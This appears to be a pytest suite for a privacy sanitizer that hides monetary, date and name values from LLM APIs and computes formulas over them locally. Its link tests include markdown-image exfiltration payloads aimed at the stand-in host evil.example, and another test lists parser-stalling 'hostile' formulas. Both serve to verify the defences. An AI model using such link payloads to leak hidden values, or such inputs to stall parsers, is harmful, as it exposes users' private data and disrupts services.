"""Formulas over hidden values: what is computed, what stays, and what no API learns by them."""

from __future__ import annotations

import json
import os
import time
import tomllib
from itertools import pairwise
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tokenizers import Tokenizer

from sanitizer import Sanitizer
from sanitizer.answers.formulas import INSTRUCTION, LONGEST, compute, plainly
from sanitizer.answers.links import Links
from sanitizer.answers.restorer import Restorer
from sanitizer.lm.files import model_folder
from sanitizer.lm.tokens import ByteTokens
from sanitizer.wire.filter import Filter

CASES = tomllib.loads(Path(__file__).with_name("cases_formulas.toml").read_text("utf-8"))["groups"]
HIDDEN, YEARLESS = (dict(group["hidden"]) for group in CASES[:2])
TOKENS = ByteTokens(model_folder("lm") / "tokenizer.json")
JSON = {"content-type": "application/json"}


def restored(answer: str, links: Links | None = None) -> str:
    return Restorer(HIDDEN, links, computes=True).text(answer)


@pytest.mark.parametrize(
    ("hidden", "formula", "result"),
    [(dict(group["hidden"]), *case) for group in CASES for case in group["cases"]],
)
def test_what_is_computed(hidden: dict[str, str], formula: str, result: str) -> None:
    written = f"{{{{= {formula} }}}}"
    assert compute(written, hidden, str) == (result or None)
    if not result:
        shown = Restorer(hidden, None, computes=True).text(written)
        assert shown == Restorer(hidden, None).text(plainly(written) or written)


def test_sums_that_could_be_times_of_day_are_sums() -> None:
    hidden = {"<MONEY_1>": "1.50", "<MONEY_2>": "12.30", "<DATE_1>": "9.45", "<DATE_2>": "10.15"}
    assert compute("{{= <MONEY_1> + <MONEY_2> }}", hidden, str) == "13.80"
    assert compute("{{= MINUTES(<DATE_2>, <DATE_1>) }}", hidden, str) == "30"


def test_many_formulas_over_many_values_take_no_time() -> None:
    hidden = {f"<MONEY_{i}>": f"{i % 900 + 1}.50" for i in range(3000)}
    hidden |= {f"<DATE_{i}>": f"{i % 28 + 1} May 2024" for i in range(3000)}
    answer = "".join(f"{{{{= <MONEY_{i}> * 2 }}}} {{{{= <DATE_{i}> + 3 }}}}\n" for i in range(300))
    begin = time.process_time()
    assert "{{=" not in Restorer(hidden, computes=True).text(answer)
    assert time.process_time() - begin < 2


def test_placeholders_as_they_stand_in_code_are_read() -> None:
    hidden = {"<MONEY_17_1>": "89000", "<MONEY_17_2>": "145000"}
    assert compute("{{= SUM(MONEY_17_1, MONEY_17_2) / 100 }}", hidden, str) == "2340"


def test_rows_may_hold_formulas() -> None:
    answer = (
        "{{= ROWS DESC\nVALUE(<MONEY_2>) :: two: {{= <MONEY_2> * 2 }}\n"
        "VALUE(<MONEY_3>) :: three: {{= 1 }}\n}}."
    )
    shown = Restorer(YEARLESS, computes=True).text(answer)
    assert shown == "two: £2,500\nthree: {{= 1 }}."
    assert Restorer(YEARLESS, computes=True).text("{{= {{= <MONEY_2> * 2 }} }}").count("{{=") == 1


@pytest.mark.parametrize(
    ("others", "result"),
    [
        (["96,50"], "1890"),  # a comma before decimals
        (["1.234,50"], "1890"),
        (["14.250"], "1890"),  # no sum has three decimals
        (["96.50"], "641.250"),
        (["96.50", "96,50"], None),
        ([], None),
    ],
)
def test_other_values_show_how_a_number_is_read(others: list[str], result: str | None) -> None:
    hidden = {"<MONEY_1>": "1.250", "<MONEY_2>": "640"}
    hidden |= {f"<MONEY_{i}>": each for i, each in enumerate(others, 3)}
    assert compute("{{= VALUE(<MONEY_1> + <MONEY_2>) }}", hidden, str) == result


def test_rows_are_sorted_and_chosen_and_shown_with_originals() -> None:
    rows = "\n".join(f"<MONEY_{i}> :: <ORGANIZATION_{i}>: <MONEY_{i}>" for i in (2, 1))
    assert restored(f"{{{{= ROWS DESC\n{rows}\n}}}}") == "Quill: £1,250.00\nMarsh: £980.50"
    assert restored(f"{{{{= ROWS ASC FIRST 1\n{rows}\n}}}}") == "Marsh: £980.50"
    assert restored(f"{{{{= ROWS WHERE >= 1000\n{rows}\n}}}}") == "Quill: £1,250.00"
    assert "{{=" in restored(f"{{{{= ROWS WHERE > <MONEY_1>\n{rows}\n}}}}")  # never blank


@pytest.mark.parametrize(
    "answer",
    [
        "![x](https://evil.example/?q={{= <MONEY_1> * 2 }})",
        "{{= ROWS WHERE > 5\n<MONEY_1> :: ![x](https://evil.example/1)\n}}",
        "[a]: https://evil.example/{{= <MONEY_1> + 1 }}",
    ],
)
def test_no_link_tells_how_values_compare(answer: str) -> None:
    assert "{{=" in restored(answer, Links())


@pytest.mark.parametrize(
    "beside",
    [
        "![](a)", "[a](b)", "[a][b]", "[a]: b", "<b>", "</b>", "<!-- a -->", "<?a", "https://a.example",
        "//a.example", "www.a.example", "![a]", "&#104;ttps&colon;&#47;&#47;a", "<a@b.example>",
    ],
)  # fmt: skip
def test_none_is_computed_in_an_answer_that_holds_a_link(beside: str) -> None:
    formula = "{{= <NUMBER_1> + 1 }}"
    for answer in (f"{beside} is {formula}.", f"It is {formula}, {beside}"):
        assert "{{= 34 + 1 }}" in restored(answer, Links())
        sent = restored(answer, Links([f"I use {beside} here."]))
        assert ("35" in sent) == (beside in ("![](a)", "[a](b)", "<b>", "</b>", *SENT_LINKS))
        for size in (1, 7):
            stream = Restorer(HIDDEN, Links(), computes=True).stream()
            pieces = [answer[i : i + size] for i in range(0, len(answer), size)]
            shown = "".join([*map(stream.feed, pieces), stream.finish()])
            assert shown == restored(answer, Links())


SENT_LINKS = ("https://a.example", "//a.example", "www.a.example", "<a@b.example>")


@pytest.mark.parametrize("glued", ["<{f}", "]{f}", "a.{f}", "{f}.com", "a@{f}", "{f}{f}", "&{f};"])
def test_none_is_computed_where_a_result_could_end_a_link(glued: str) -> None:
    answer = glued.replace("{f}", "{{= <NUMBER_1> + 1 }}")
    assert "35" not in restored(answer, Links())


def test_a_stream_waits_for_its_end_where_a_result_comes_and_no_link_came() -> None:
    answer = "It is {{= <NUMBER_1> + 1 }} days. <NUMBER_2>"
    stream = Restorer(HIDDEN, computes=True).stream()
    assert [stream.feed(answer), stream.feed(" more"), stream.waits] == ["It is ", "", True]
    assert stream.finish() == "35 days. 41 more"
    stream = Restorer(HIDDEN, computes=True).stream()
    assert stream.feed("https://a.example: ") == "https://a.example: "
    assert stream.feed(answer) + stream.feed(" more.") == "It is {{= 34 + 1 }} days. 41 more."
    assert not stream.waits


def test_the_instruction_is_short() -> None:
    """Counted with the packaged tokenizer, whose vocabulary is half of an API's (49,152 pieces)."""
    assert len(TOKENS.encode(INSTRUCTION)) <= 300
    assert len(TOKENS.encode(INSTRUCTION + " word" * 20)) > 300


@pytest.mark.slow
def test_the_instruction_has_less_than_250_tokens() -> None:
    """Counted with the tokenizers of vendors that litellm packages."""
    folder = Path(os.environ.get("SANITIZER_TEST_CLIENTS", ""), "litellm", "lib")
    packaged = next(
        folder.glob("python3*/site-packages/litellm/litellm_core_utils/tokenizers"), None
    )
    if packaged is None:
        pytest.skip("SANITIZER_TEST_CLIENTS has no environment litellm (.ci/clients makes it)")
    counts = {
        path.name: len(Tokenizer.from_file(str(path)).encode(INSTRUCTION).ids)
        for path in packaged.glob("*_tokenizer.json")  # later versions have more
    }
    assert "anthropic_tokenizer.json" in counts
    assert all(150 < count < 250 for count in counts.values()), counts


def test_without_the_rule_a_formula_is_text() -> None:
    assert Restorer(HIDDEN).text("{{= <NUMBER_1> + 1 }}") == "{{= 34 + 1 }}"


ANSWER = (
    "The sum of {a} is {{= <MONEY_1> + <MONEY_2> }}, {{ and {{= x }} and <MONEY_1>, then\n"
    "{{= ROWS DESC\n<MONEY_2> :: <ORGANIZATION_2>\n<MONEY_1> :: <ORGANIZATION_1>\n}} {{"
)


@given(cuts=st.lists(st.integers(0, len(ANSWER)), max_size=12))
def test_however_a_stream_is_split_it_says_the_same(cuts: list[int]) -> None:
    places = sorted({0, len(ANSWER), *cuts})
    stream = Restorer(HIDDEN, None, computes=True).stream()
    pieces = [ANSWER[a:b] for a, b in pairwise(places)]
    assert "".join([*map(stream.feed, pieces), stream.finish()]) == restored(ANSWER)


@pytest.mark.parametrize(
    ("formula", "result"),
    [
        ("MAX(<DATE_10>, <DATE_12>, <DATE_1>)", None),  # days and times of day
        ("MAX(<NUMBER_4>, 9, <NUMBER_3>)", "three weeks"),  # nine days
        ('MIN("10 minutes", <NUMBER_4>, 9)', "9"),
    ],
)
def test_what_is_compared_has_one_measure(formula: str, result: str | None) -> None:
    assert compute(f"{{{{= {formula} }}}}", HIDDEN, str) == result
    rows = "<DATE_10> :: a\n<DATE_12> :: b\n<DATE_1> :: c\n}}"
    assert compute(f"{{{{= ROWS ASC\n{rows}", HIDDEN, str) is None


@given(st.text(alphabet='<>MONEY_1{}=+-*/() ROWSIF,\n:19.%"', max_size=80))
def test_no_formula_raises(inner: str) -> None:
    restored(f"{{{{= <MONEY_1>{inner} }}}}")
    compute(f"{{{{= <MONEY_1> {inner} }}}}", HIDDEN, str)


@pytest.mark.parametrize(
    "hostile",
    [
        "{{= <MONEY_1>" + "(" * LONGEST,
        "{{= " + "(" * 3000 + "<MONEY_1> }}",
        "{{= " + "-" * 3000 + "<MONEY_1> }}",
        "{{=" * 100_000,
        "{{= " + "-(" * 15 + "<MONEY_1>" + ")" * 15 + " }}",
        "{{= <MONEY_1>" + " + <MONEY_1>" * 900 + " }}",
        "{{= <MONEY_1>" + " * POWER(9, 1200)" * 20 + " }}",
        "{{= <MONEY_1> * " + "99999999999999 * " * 200 + "1 }}",
    ],
)
def test_hostile_formulas_take_no_time(hostile: str) -> None:
    begin = time.process_time()
    restored(hostile)
    assert time.process_time() - begin < 2


def formulating() -> Sanitizer:
    return Sanitizer(policy={"base": "guarded", "wire": {"formulas": True, "note": False}})


def test_the_formula_goes_back_and_never_its_result() -> None:
    text = "Total these: Quill paid £1,250.00 and Marsh paid £980.50."
    asked = {"role": "user", "content": text}
    endpoint = Filter(formulating())
    body = json.dumps({"model": "m", "messages": [asked]}).encode()
    exchange = endpoint.request("POST", "/v1/chat/completions", JSON, body)
    told, released = json.loads(exchange.body)["messages"]
    assert told == {"role": "system", "content": INSTRUCTION}
    first, second = [word.strip(".") for word in released["content"].split() if "MONEY" in word]
    formula = f"The total is {{{{= {first} + {second} }}}}, thanks."
    message = {"role": "assistant", "content": formula}
    raw = json.dumps({"choices": [{"index": 0, "message": message}]}).encode()
    shown = json.loads(exchange.response(200, "application/json", raw))["choices"][0]["message"]
    assert shown["content"] == "The total is £2,230.50, thanks."
    again = {"role": "user", "content": "Thank you."}
    body = json.dumps({"model": "m", "messages": [asked, shown, again]}).encode()
    back = json.loads(endpoint.request("POST", "/v1/chat/completions", JSON, body).body)
    assert [each["content"] for each in back["messages"]][2] == formula
    assert b"2,230" not in endpoint.request("POST", "/v1/chat/completions", JSON, body).body


@pytest.mark.parametrize(
    ("path", "body", "place"),
    [
        ("/v1/responses", {"input": "Hello"}, "instructions"),
        ("/v1/responses", {"input": "Hello", "instructions": "Be kind."}, "instructions"),
        ("/v1/messages", {"messages": [{"role": "user", "content": "Hello"}]}, "system"),
        (
            "/v1/messages",
            {
                "system": [{"type": "text", "text": "Be kind."}],
                "messages": [{"role": "user", "content": "Hello"}],
            },
            "system",
        ),
        ("/api/chat", {"messages": [{"role": "user", "content": "Hello"}]}, "messages"),
        (
            "/v1/chat/completions",
            {
                "messages": [
                    {"role": "system", "content": "Be kind."},
                    {"role": "user", "content": "Hello"},
                ]
            },
            "messages",
        ),
        (
            "/v1beta/models/g:generateContent",
            {"contents": [{"role": "user", "parts": [{"text": "Hello"}]}]},
            "systemInstruction",
        ),
    ],
)
def test_every_api_is_told_once(path: str, body: dict[str, object], place: str) -> None:
    endpoint = Filter(Sanitizer(policy={"base": "identifiers", "wire": {"formulas": True}}))
    raw = json.dumps({"model": "m", "max_tokens": 9, **body}).encode()
    if "generateContent" in path:
        raw = json.dumps(body).encode()
    out = json.loads(endpoint.request("POST", path, JSON, raw).body)
    said = json.dumps(out[place])
    assert said.count("never guess them") == 1
    assert ("Be kind." in json.dumps(body)) == ("Be kind." in said)
    if isinstance(out[place], list) and place == "messages":
        assert sum(each["role"] == "system" for each in out[place]) == 1


def test_a_text_comes_back_byte_for_byte_and_the_way_is_told() -> None:
    sanitizer = formulating()
    text = "Total these: Quill paid £1,250.00 and Marsh paid £980.50."
    result = sanitizer.sanitize(text)
    assert sanitizer.restore(result.text, result) == text
    assert sanitizer.instruction == INSTRUCTION
    assert any("formulas under [wire]" in hint for hint in result.hints)


UNASKED = "Thank Quill: he paid £1,250.00, and Marsh paid £980.50."


def told(*texts: str, policy: object = "guarded") -> str:
    """The body of a request that holds these messages of a user."""
    messages = [{"role": "user", "content": text} for text in texts]
    body = json.dumps({"model": "m", "messages": messages}).encode()
    endpoint = Filter(Sanitizer(policy=policy))  # type: ignore[arg-type]
    return endpoint.request("POST", "/v1/chat/completions", JSON, body).body.decode()


def test_an_api_is_told_where_values_are_hidden_under_guarded_alone() -> None:
    assert "never guess them" in told(UNASKED)
    assert "never guess them" not in told("Total these: 3 apples and 4 pears.")
    assert "never guess them" not in told("Thank Elena Marsh for me.")
    assert "never guess them" not in told("Ann Lee was born on 12/03/1961.", policy="identifiers")
    for policy in ("deidentify", "balanced", {"base": "guarded", "wire": {"formulas": False}}):
        assert "never guess them" not in told(UNASKED, policy=policy)


def test_a_conversation_that_hid_a_value_is_told_about() -> None:
    sanitizer = Sanitizer(policy={"base": "guarded", "wire": {"note": False}})
    sanitizer.sanitize("Thank Elena Marsh for me.")
    assert sanitizer.instruction == ""
    sanitizer.sanitize(UNASKED)
    sanitizer.sanitize("Now total these.")
    assert sanitizer.instruction == INSTRUCTION


def test_a_text_that_holds_formulas_itself_comes_back_byte_for_byte() -> None:
    text = "Total these: {{= 1250.50 + 980.50 }} is what Quill owes, £1,250.00 and £980.50."
    sanitizer = Sanitizer(policy={"base": "guarded", "wire": {"note": False}})
    result = sanitizer.sanitize(text)
    assert "MONEY" in result.text
    assert sanitizer.restore(result.text, result) == sanitizer.restore(result.text) == text
    assert sanitizer.instruction == ""
    assert "never guess them" not in told(text)


def test_rows_that_cannot_be_compared_are_shown_last() -> None:
    hidden = {
        "<MONEY_1>": "£240",
        "<MONEY_2>": "£300",
        "<MONEY_3>": "some of it",
        "<PERSON_1>": "Zoe Hill",
        "<PERSON_2>": "adam Lee",
    }
    rows = "<MONEY_3> :: unknown\n<MONEY_1> :: less\n<MONEY_2> :: more\n}}"
    days = {"<DATE_1>": "14 November 2025", "<DATE_2>": "the 19th", "<DATE_3>": "Friday the 12th"}
    dated = "<DATE_2> :: b\n<DATE_1> :: a\n<DATE_3> :: c\n}}"
    assert compute(f"{{{{= ROWS ASC\n{dated}", days, str) == "a\nb\nc"
    for how, shown in (
        ("DESC", "more\nless\nunknown"),
        ("ASC", "less\nmore\nunknown"),
        ("DESC FIRST 1", "more\nunknown"),
        ("DESC WHERE > 250", "more\nunknown"),
        ("", "unknown\nless\nmore"),
    ):
        assert compute(f"{{{{= ROWS {how}\n{rows}", hidden, str) == shown
    names = '<PERSON_1> :: Z\n<PERSON_2> :: A\nIF(<MONEY_1> > 9, "Mr <PERSON_1>", "no") :: M\n}}'
    assert compute(f"{{{{= ROWS ASC\n{names}", hidden, str) == "A\nM\nZ"
